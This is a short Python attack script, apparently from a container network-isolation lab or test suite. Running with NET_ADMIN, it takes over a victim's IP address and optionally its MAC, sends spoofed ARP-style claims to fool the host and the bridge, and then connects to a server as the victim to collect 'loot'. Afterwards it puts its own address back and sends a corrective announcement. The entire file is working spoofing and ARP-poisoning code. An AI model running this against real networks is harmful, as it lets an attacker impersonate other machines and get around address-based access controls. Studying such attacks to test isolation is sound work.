"""A container with NET_ADMIN takes the victim's address (--mac: and its MAC) for its own link; its kernel does the rest."""

import socket
import subprocess

from frames import Loot, Wire, arguments, mac, request_for, whole

told = arguments(__doc__, (["--mac"], dict(action="store_true")))
own_mac = mac(open("/sys/class/net/eth0/address").read().strip())
subprocess.run(["ip", "addr", "replace", f"{told.victim}/32", "dev", "eth0"], check=True)
if told.mac:
    subprocess.run(["ip", "link", "set", "eth0", "address", told.victim_mac], check=True)
wire = Wire()
loot = Loot(told.role)
for _ in range(told.tries):
    loot.tries += 1
    # The host believes it, and so does the bridge.
    wire.claim(told.victim, wire.own_mac, wire.gateway_mac)
    with socket.socket() as link:
        link.settimeout(0.6)
        answer = b""
        try:
            link.bind((told.victim, 0))
            link.connect((told.server, told.server_port))
            loot.connections += 1
            link.sendall(request_for(told.role))
            while not whole(answer) and (more := link.recv(65536)):
                answer += more
        except OSError:
            pass  # nothing got
        loot.answer(answer)
# Its own again: what the victim's kernel says from now on counts.
if told.mac:
    subprocess.run(["ip", "link", "set", "eth0", "address", ":".join(f"{it:02x}" for it in own_mac)], check=True)
subprocess.run(["ip", "addr", "del", f"{told.victim}/32", "dev", "eth0"], check=True)
wire.tell_the_truth(told.victim, mac(told.victim_mac))
loot.print()
